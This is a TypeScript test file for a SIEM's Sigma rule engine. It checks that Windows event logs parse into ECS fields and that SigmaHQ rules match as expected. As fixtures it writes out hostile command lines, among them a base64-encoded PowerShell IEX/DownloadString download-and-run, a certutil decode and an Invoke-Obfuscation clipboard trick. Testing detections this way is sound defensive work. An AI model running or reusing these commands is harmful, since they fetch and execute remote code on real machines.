// Windows event logs as JSON (EVTX rendered by evtx_dump, or XML-to-JSON) → ECS events with their
// original fields, and SigmaHQ's Windows rules (copied unchanged into test/fixtures/sigma/rules/windows/)
// applied through the processing pipeline: logsource conditions (channel + event id) and field mapping.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parseEvent } from '../../src/siem/parsers.js'
import { compileRule, evaluate } from '../../src/siem/sigma/detection.js'
import { parseSigmaYaml } from '../../src/siem/sigma/yaml.js'
import { resolveLogsource } from '../../src/siem/sigma/pipeline.js'
import { DEFAULT_PIPELINE } from '../../src/siem/sigma/pipelines/index.js'
import type { SiemEvent } from '../../src/siem/ecs.js'
import { T0 } from './sigma-helpers.js'

const RULES = 'test/fixtures/sigma/rules/windows'
const load = (f: string) => compileRule(parseSigmaYaml(readFileSync(join(RULES, f), 'utf8'))[0]!)
const SYSMON = 'Microsoft-Windows-Sysmon/Operational'

/** An event as evtx_dump renders it to JSON (attributes under #attributes). */
function evtx(channel: string, eventId: number, data: Record<string, string>, provider = 'Microsoft-Windows-Sysmon'): string {
  return JSON.stringify({
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': { Name: provider, Guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' } },
        EventID: eventId, Version: 5, Level: 4, Task: 1, Opcode: 0, Keywords: '0x8000000000000000',
        TimeCreated: { '#attributes': { SystemTime: '2026-11-24T10:00:00.123456Z' } },
        EventRecordID: 4242, Correlation: null,
        Execution: { '#attributes': { ProcessID: 3140, ThreadID: 4012 } },
        Channel: channel, Computer: 'ws-17.city.example', Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: data,
    },
  })
}
const parse = (line: string): SiemEvent => {
  const r = parseEvent(line, 'auto', { receivedAt: T0 })
  assert.ok(r.ok, r.ok ? '' : r.error)
  return r.event
}
const sysmon1 = (d: Record<string, string>) => parse(evtx(SYSMON, 1, { RuleName: '-', UtcTime: '2026-11-24 10:00:00.123', User: 'CITY\\alice', ParentUser: 'CITY\\alice', ...d }))

test('EVTX JSON becomes an ECS event keeping every System and EventData field', () => {
  const e = sysmon1({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -decode a.b64 a.exe', ParentImage: 'C:\\Windows\\explorer.exe', ProcessId: '4711' })
  assert.equal(e.event.dataset, 'winlog')
  assert.equal(e['@timestamp'], '2026-11-24T10:00:00.123Z')
  assert.equal(e.event.code, '1')
  assert.deepEqual(
    { channel: e.winlog?.channel, id: e.winlog?.event_id, provider: e.winlog?.provider_name, computer: e.winlog?.computer_name, record: e.winlog?.record_id, pid: e.winlog?.process?.pid, sid: e.winlog?.user?.identifier },
    { channel: SYSMON, id: '1', provider: 'Microsoft-Windows-Sysmon', computer: 'ws-17.city.example', record: '4242', pid: 3140, sid: 'S-1-5-18' },
  )
  assert.equal(e.winlog?.event_data?.CommandLine, 'certutil -decode a.b64 a.exe')
  assert.equal(e.process?.executable, 'C:\\Windows\\System32\\certutil.exe')
  assert.equal(e.process?.name, 'certutil.exe')
  assert.equal(e.process?.pid, 4711)
  assert.equal(e.process?.parent?.executable, 'C:\\Windows\\explorer.exe')
  assert.equal(e.host?.hostname, 'ws-17.city.example')
  assert.deepEqual(e.event.category, ['process'])
})

test('the XML-to-JSON rendering (@Name attributes, EventData.Data list) reads the same', () => {
  const line = JSON.stringify({
    Event: {
      System: { Provider: { '@Name': 'Microsoft-Windows-Security-Auditing' }, EventID: { '#text': '4625', '@Qualifiers': '' }, Channel: 'Security', Computer: 'dc01', TimeCreated: { '@SystemTime': '2026-11-24T10:00:01Z' } },
      EventData: { Data: [{ '@Name': 'TargetUserName', '#text': 'bob' }, { '@Name': 'IpAddress', '#text': '192.0.2.7' }, { '@Name': 'Status', '#text': '0xC0000072' }, { '@Name': 'SubjectUserSid', '#text': 'S-1-5-18' }] },
    },
  })
  const e = parse(line)
  assert.equal(e.winlog?.event_id, '4625')
  assert.equal(e.winlog?.provider_name, 'Microsoft-Windows-Security-Auditing')
  assert.equal(e.winlog?.event_data?.Status, '0xC0000072')
  assert.equal(e.user?.name, 'bob')
  assert.equal(e.source?.ip, '192.0.2.7')
  assert.equal(e.event.outcome, 'failure')
  assert.deepEqual(evaluate([load('builtin/security/win_security_susp_failed_logon_reasons.yml')], e).length, 1)
  // UserData's fields by their own names (Security 1102, the log cleared)
  const cleared = parse(JSON.stringify({ Event: { System: { EventID: 1102, Channel: 'Security' }, UserData: { LogFileCleared: { '#attributes': { xmlns: 'x' }, SubjectUserName: 'mallory', SubjectDomainName: 'CITY' } } } }))
  assert.deepEqual(cleared.winlog?.user_data, { SubjectDomainName: 'CITY', SubjectUserName: 'mallory' })
  assert.equal(compileRule({ title: 't', logsource: { product: 'windows', service: 'security' }, detection: { sel: { EventID: 1102, SubjectUserName: 'mallory' }, condition: 'sel' } }).match(cleared), true)
  // Event without System: an ordinary JSON document
  assert.equal(parse(JSON.stringify({ Event: { foo: 1 } })).event.dataset, 'json')
})

test('SigmaHQ process_creation rules (windash, base64offset) fire on Sysmon 1 and on Security 4688 through the field mapping', () => {
  const certutil = load('process_creation/proc_creation_win_certutil_decode.yml')
  const iex = load('process_creation/proc_creation_win_powershell_base64_iex.yml')
  const rules = [certutil, iex]
  const titles = (e: SiemEvent) => evaluate(rules, e).map((r) => r.title)
  assert.deepEqual(titles(sysmon1({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil /decode a.b64 a.exe', OriginalFileName: 'CertUtil.exe' })), [certutil.title])
  assert.deepEqual(titles(sysmon1({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -encode a.exe a.b64' })), [])
  // Security 4688 names the image NewProcessName: the pipeline maps Image onto it for those events
  const audit = parse(evtx('Security', 4688, { NewProcessName: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe \u2013decode x y', NewProcessId: '0x1f4', ProcessId: '0x10', ParentProcessName: 'C:\\Windows\\explorer.exe' }, 'Microsoft-Windows-Security-Auditing'))
  assert.deepEqual(titles(audit), [certutil.title])
  assert.equal(audit.process?.pid, 500)
  // base64offset: "IEX (New" at any offset of a base64 command line
  const payload = Buffer.from('$x=1;IEX (New-Object Net.WebClient).DownloadString("http://x")').toString('base64')
  assert.deepEqual(titles(sysmon1({ Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: `powershell -e ${payload}` })), [iex.title])
  // the same command line in another category's event (Sysmon 3, a network connection) is not seen by a process_creation rule
  assert.deepEqual(titles(parse(evtx(SYSMON, 3, { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil /decode a b' }))), [])
  // nor by a Linux event with the same fields
  assert.deepEqual(titles(parse(JSON.stringify({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil /decode a b' }))), [])
})

test('fieldref and null (cross-user spawn), ps_script regex (Invoke-Obfuscation clip), and service: security', () => {
  const cross = load('process_creation/proc_creation_win_susp_cross_user_process_spawn.yml')
  const notepad = (user: string, parent: string) => sysmon1({ Image: 'C:\\Windows\\notepad.exe', User: user, ParentUser: parent })
  assert.equal(evaluate([cross], notepad('CITY\\bob', 'CITY\\alice')).length, 1)
  assert.equal(evaluate([cross], notepad('CITY\\alice', 'city\\ALICE')).length, 0, 'same user (case-insensitive)')
  assert.equal(evaluate([cross], notepad('-', 'CITY\\alice')).length, 0)
  const clip = load('powershell/powershell_script/posh_ps_invoke_obfuscation_clip.yml')
  const script = (text: string) => parse(evtx('Microsoft-Windows-PowerShell/Operational', 4104, { MessageNumber: '1', MessageTotal: '1', ScriptBlockText: text, ScriptBlockId: '{x}' }, 'Microsoft-Windows-PowerShell'))
  assert.equal(evaluate([clip], script('cmd /c echo x|clip&& powershell [windows.clipboard]::( "{0}{1}" -f "Get","Text")')).length, 0)
  assert.equal(evaluate([clip], script('cmd /c echo Invoke-Expression|clip.exe&&powershell -sta [windows.clipboard]::( \\"{0}GetText" -f "x")')).length, 1)
  assert.equal(evaluate([clip], parse(evtx('Windows PowerShell', 4104, { ScriptBlockText: 'cmd /c echo Invoke-Expression|clip.exe&&powershell -sta [windows.clipboard]::( \\"{0}GetText" -f "x")' }))).length, 0, 'ps_script is channel PowerShell/Operational, event 4104')
  const failed = load('builtin/security/win_security_susp_failed_logon_reasons.yml')
  const logon = (channel: string, status: string, sid = 'S-1-5-21-1') => parse(evtx(channel, 4625, { TargetUserName: 'bob', Status: status, SubStatus: '0x0', SubjectUserSid: sid }, 'Microsoft-Windows-Security-Auditing'))
  assert.equal(evaluate([failed], logon('Security', '0xc0000072')).length, 1, 'values are case-insensitive')
  assert.equal(evaluate([failed], logon('Security', '0xC000006A')).length, 0)
  assert.equal(evaluate([failed], logon('Security', '0xC0000072', 'S-1-0-0')).length, 0, 'the filter')
  assert.equal(evaluate([failed], logon('System', '0xC0000072')).length, 0, 'service: security is the Security channel')
})

test('the pipeline is data: each Windows category and service resolves to channel and event-id conditions', () => {
  const ps = resolveLogsource(DEFAULT_PIPELINE, { product: 'windows', category: 'ps_module' })
  const ev = (channel: string, id: number) => parse(evtx(channel, id, {}))
  assert.equal(ps.applies(ev('PowerShellCore/Operational', 4103)), true)
  assert.equal(ps.applies(ev('PowerShellCore/Operational', 4104)), false)
  const reg = resolveLogsource(DEFAULT_PIPELINE, { product: 'windows', category: 'registry_event' })
  assert.deepEqual([12, 13, 14, 15].map((id) => reg.applies(ev(SYSMON, id))), [true, true, true, false])
  const sched = resolveLogsource(DEFAULT_PIPELINE, { product: 'windows', service: 'taskscheduler' })
  assert.equal(sched.applies(ev('Microsoft-Windows-TaskScheduler/Operational', 106)), true)
  assert.equal(sched.applies(ev('Security', 106)), false)
  // System fields under Sigma's names
  const e = ev(SYSMON, 1)
  const read = resolveLogsource(DEFAULT_PIPELINE, { product: 'windows' }).reader
  assert.deepEqual(['EventID', 'Channel', 'Provider_Name', 'Computer', 'Execution_ProcessID', 'Security_UserID'].map((f) => read(f)(e)), ['1', SYSMON, 'Microsoft-Windows-Sysmon', 'ws-17.city.example', 3140, 'S-1-5-18'])
  // a product the pipeline does not know is inert (none of our inputs comes from it); opencanary sees only its own
  assert.equal(resolveLogsource(DEFAULT_PIPELINE, { product: 'aws', service: 'cloudtrail' }).applies(e), false)
  assert.equal(resolveLogsource(DEFAULT_PIPELINE, { product: 'aws', service: 'cloudtrail' }).inert, true)
  assert.equal(resolveLogsource(DEFAULT_PIPELINE, { service: 'netflow' }).applies(e), true)
  assert.equal(resolveLogsource(DEFAULT_PIPELINE, { category: 'firewall' }).applies(e), true, 'categories alone: every event')
  assert.equal(resolveLogsource(DEFAULT_PIPELINE, { product: 'opencanary' }).applies(e), false)
})
